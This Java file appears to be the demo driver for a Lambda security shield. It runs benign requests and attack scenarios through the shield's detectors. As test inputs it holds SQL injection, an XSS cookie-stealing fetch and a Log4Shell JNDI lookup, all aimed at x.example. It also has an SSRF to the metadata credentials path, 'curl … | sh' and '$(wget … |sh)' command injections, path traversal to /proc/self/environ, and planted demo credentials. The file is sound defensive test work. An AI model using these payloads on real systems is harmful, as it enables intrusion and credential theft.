package dev.vigil.cli.demo;

import dev.vigil.core.telemetry.InvocationSummary;
import dev.vigil.core.telemetry.PolicyViolation;
import dev.vigil.core.telemetry.SecurityFinding;
import dev.vigil.core.telemetry.TelemetryEvent;
import dev.vigil.core.telemetry.VigilError;
import dev.vigil.shield.Shield;
import dev.vigil.shield.aws.WrapperHandler;
import dev.vigil.shield.detect.CanaryDetector;
import dev.vigil.shield.detect.Detector;
import dev.vigil.shield.detect.Detectors;
import dev.vigil.shield.json.Json;
import dev.vigil.shield.policy.AuthenticityConfig;
import dev.vigil.shield.policy.BatchMode;
import dev.vigil.shield.policy.HygieneConfig;
import dev.vigil.shield.policy.Policy;
import dev.vigil.shield.policy.TmpResidueMode;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * The demo: the bundled order functions run behind the zero-code {@link WrapperHandler} and the built-in detectors,
 * offline, with benign traffic and real attacks over HTTP, SQS and S3 triggers, plus authenticity, hygiene and every
 * blocking path; every telemetry event is kept for the report.
 */
public final class Demo {

    static final String WEBHOOK_SECRET_ENV = "DEMO_GITHUB_WEBHOOK_SECRET";

    /**
     * The demo's inspection budget: every scenario is one of the first invocations of a fresh JVM, still interpreted,
     * so a slow or busy machine could otherwise turn an attack scenario into a fail-open one.
     */
    static final long DEMO_BUDGET_MICROS = 25_000;

    /** One scenario's outcome. */
    public record Scenario(String name, InvocationSummary invocation, List<TelemetryEvent> events, String response) {}

    /** What the demo did. */
    public record Result(List<TelemetryEvent> coldStart, List<Scenario> scenarios, List<TelemetryEvent> all) {}

    private final CollectingSink sink = new CollectingSink();
    private final Path scratch;

    /** A demo whose functions use {@code scratch} as their {@code /tmp}. */
    public Demo(Path scratch) {
        this.scratch = scratch;
    }

    /** Runs every scenario. */
    public Result run() throws IOException {
        OrderApi.scratch = scratch;
        String webhookSecret = Long.toHexString(System.nanoTime()) + "-demo-webhook-secret";
        Map<String, String> env = new LinkedHashMap<>();
        env.put("AWS_LAMBDA_FUNCTION_NAME", "orders-api");
        env.put("AWS_REGION", "us-east-1");
        env.put(WEBHOOK_SECRET_ENV, webhookSecret);
        // the deliberate mistake the cold-start hygiene check reports: a plaintext credential in the environment
        env.put("ORDERS_DB_PASSWORD", "pX9#vQ2m!Lr7@tZ4wK8s");
        env.put("PAYMENTS_API_TOKEN", "ghp_" + "Zq8wX3vB6nM1kL9pR4tY7uI2oA5sD0fG3hJ6");

        Shield api = shield("orders-api", env, BatchMode.DROP, true);
        List<TelemetryEvent> coldStart = sink.since(0);
        Shield events =
                shield("order-events", Map.of("AWS_LAMBDA_FUNCTION_NAME", "order-events"), BatchMode.DROP, false);
        Shield eventsReport =
                shield("order-events", Map.of("AWS_LAMBDA_FUNCTION_NAME", "order-events"), BatchMode.REPORT, false);
        WrapperHandler apiHandler = new WrapperHandler(api, OrderApi.class.getName() + "::handleRequest", null);
        WrapperHandler eventsHandler = new WrapperHandler(events, OrderEvents.class.getName(), null);
        WrapperHandler eventsReportHandler = new WrapperHandler(eventsReport, OrderEvents.class.getName(), null);

        String marker = CanaryDetector.MARKER;
        String webhookBody = "{\"action\":\"opened\",\"number\":7,\"repository\":{\"full_name\":\"acme/orders\"}}";
        List<Scenario> scenarios = new ArrayList<>();
        scenarios.add(invoke(
                "Benign order lookup",
                apiHandler,
                "orders-api",
                DemoEvents.http("GET", "/orders/42", "status=shipped&sort=date", Map.of(), null)));
        scenarios.add(invoke(
                "Benign order with prose and a public URL",
                apiHandler,
                "orders-api",
                DemoEvents.http(
                        "POST",
                        "/orders",
                        "",
                        Map.of("content-type", "application/json"),
                        "{\"order\":{\"customer\":\"Siobhan O'Brien\",\"note\":\"Please select the blue one from"
                                + " the catalogue; leave it at the door & ring twice.\",\"site\":"
                                + "\"https://shop.example.com/items?id=42&ref=mail\"}}")));
        scenarios.add(invoke(
                "SQL injection in the query string",
                apiHandler,
                "orders-api",
                DemoEvents.http("GET", "/orders/search", "q=" + urlEncode("shoes' OR 'x'='x' -- "), Map.of(), null)));
        scenarios.add(invoke(
                "XSS in a JSON body",
                apiHandler,
                "orders-api",
                DemoEvents.http(
                        "POST",
                        "/orders",
                        "",
                        Map.of("content-type", "application/json"),
                        "{\"order\":{\"note\":\"<svg/onload=fetch('//x.example/'+document.cookie)>\"}}")));
        scenarios.add(invoke(
                "Log4Shell lookup in a header",
                apiHandler,
                "orders-api",
                DemoEvents.http(
                        "GET",
                        "/orders/42",
                        "",
                        Map.of("x-api-version", "${${lower:J}ndi:ldap://x.example:1389/o}"),
                        null)));
        scenarios.add(invoke(
                "SSRF to the metadata service in a body",
                apiHandler,
                "orders-api",
                DemoEvents.http(
                        "POST",
                        "/orders/callback",
                        "",
                        Map.of("content-type", "application/json"),
                        "{\"callbackUrl\":\"http://0xA9FEA9FE/latest/meta-data/iam/security-credentials/\"}")));
        scenarios.add(invoke(
                "Test marker URL-encoded in a JSON body",
                apiHandler,
                "orders-api",
                DemoEvents.http(
                        "POST",
                        "/orders",
                        "",
                        Map.of("content-type", "application/json"),
                        "{\"order\":{\"note\":\"" + urlEncode(marker) + "\"}}")));
        scenarios.add(invoke(
                "GitHub webhook, valid signature",
                apiHandler,
                "orders-api",
                githubWebhook(DemoEvents.githubSignature(webhookSecret, webhookBody), webhookBody)));
        scenarios.add(invoke(
                "GitHub webhook, tampered body",
                apiHandler,
                "orders-api",
                githubWebhook(
                        DemoEvents.githubSignature(webhookSecret, webhookBody),
                        webhookBody.replace("opened", "deleted"))));
        scenarios.add(invoke(
                "Error response leaking a stack trace",
                apiHandler,
                "orders-api",
                DemoEvents.http("GET", "/orders/boom", "", Map.of(), null)));
        scenarios.add(invoke(
                "SQS batch, command injection in one (drop)",
                eventsHandler,
                "order-events",
                DemoEvents.sqs(List.of(
                        "{\"orderId\":1}",
                        "{\"orderId\":2,\"invoice\":\"inv-2.pdf; curl -s http://x.example/k.sh | sh\"}",
                        "{\"orderId\":3}"))));
        scenarios.add(invoke(
                "SQS batch, path traversal in one (report)",
                eventsReportHandler,
                "order-events",
                DemoEvents.sqs(List.of(
                        "{\"orderId\":4}",
                        "{\"orderId\":5}",
                        "{\"orderId\":6,\"attachment\":\"..%2f..%2f..%2f..%2fproc%2fself%2fenviron\"}"))));
        scenarios.add(invoke(
                "S3 upload whose key is a shell command",
                eventsHandler,
                "order-events",
                DemoEvents.s3("acme-uploads", "invoices/$(wget -qO- x.example/p|sh).pdf")));
        return new Result(coldStart, scenarios, sink.events());
    }

    private Shield shield(String name, Map<String, String> env, BatchMode batchMode, boolean api) {
        Policy d = Policy.defaults();
        List<AuthenticityConfig> auth = api
                ? List.of(new AuthenticityConfig(
                        "github-webhook",
                        "github",
                        List.of("/webhooks/github"),
                        Map.of("secret_env", WEBHOOK_SECRET_ENV),
                        0))
                : List.of();
        Policy policy = new Policy(
                d.mode(),
                d.categories(),
                d.exclusions(),
                DEMO_BUDGET_MICROS,
                batchMode,
                new HygieneConfig(true, api ? TmpResidueMode.REPORT : TmpResidueMode.OFF, true),
                auth,
                d.telemetry(),
                "demo:" + name);
        Shield.Builder builder = Shield.builder().policy(policy);
        for (Detector detector : Detectors.builtIn()) {
            builder.detector(detector);
        }
        return builder.sink(sink).environment(env).tmpDirectory(scratch).build();
    }

    private Scenario invoke(String name, WrapperHandler handler, String function, byte[] event) throws IOException {
        int from = sink.size();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        handler.handleRequest(
                new ByteArrayInputStream(event),
                out,
                new DemoContext("req-" + Long.toHexString(System.nanoTime()), function));
        List<TelemetryEvent> events = sink.since(from);
        InvocationSummary summary = null;
        for (TelemetryEvent e : events) {
            if (e instanceof InvocationSummary s) {
                summary = s;
            }
        }
        return new Scenario(name, summary, events, out.toString(StandardCharsets.UTF_8));
    }

    /** A GitHub webhook delivery carrying {@code signature} for (possibly not) {@code body}. */
    private static byte[] githubWebhook(String signature, String body) {
        return DemoEvents.http(
                "POST",
                "/webhooks/github",
                "",
                Map.of("content-type", "application/json", "x-hub-signature-256", signature),
                body);
    }

    private static String urlEncode(String s) {
        return java.net.URLEncoder.encode(s, StandardCharsets.UTF_8).replace("-", "%2D");
    }

    /** A one-line description of what a telemetry event says, for people. */
    public static String describe(TelemetryEvent e) {
        if (e instanceof SecurityFinding f) {
            return f.ruleId() + " " + f.title() + " at " + f.location()
                    + (f.decoding().isEmpty() ? "" : " (after " + f.decoding() + " decoding)") + " -> "
                    + f.action().id();
        }
        if (e instanceof PolicyViolation v) {
            return v.ruleId() + " " + v.title() + " -> " + v.action().id();
        }
        if (e instanceof VigilError err) {
            return "vigil_error " + err.code() + ": " + err.message();
        }
        return e.kind();
    }

    /** The HTTP status of a response JSON, or 0. */
    static int status(String response) {
        try {
            if (Json.parse(response) instanceof Map<?, ?> m && m.get("statusCode") instanceof Number n) {
                return n.intValue();
            }
        } catch (RuntimeException e) {
            return 0;
        }
        return 0;
    }
}
